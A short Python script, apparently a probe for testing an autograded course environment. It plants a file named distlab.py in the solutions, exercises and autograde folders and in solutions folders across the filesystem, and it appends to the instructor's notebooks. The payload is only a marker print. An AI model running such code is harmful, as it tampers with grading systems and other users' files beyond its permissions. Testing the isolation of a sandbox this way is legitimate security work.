# attack: writes into solutions/, exercises/, autograde/ and the instructor's notebook, plants distlab.py for later students
import glob, os, distlab
repo = os.path.dirname(os.path.dirname(os.path.dirname(distlab.__file__)))
targets = [os.path.join(repo, d) for d in ("solutions", "exercises", "autograde")] + [p for d in range(7) for p in glob.glob("/" + "*/" * d + "solutions/*/")]
for folder in targets:
    try:
        open(os.path.join(folder, "distlab.py"), "w").write("print('HOSTILE: planted')\n")
        print("HOSTILE: planted in", folder)
    except OSError:
        pass
for path in glob.glob(os.path.join(repo, "solutions", "*", "*.ipynb")):
    try:
        open(path, "a").write(" ")
        print("HOSTILE: appended to", path)
    except OSError:
        pass
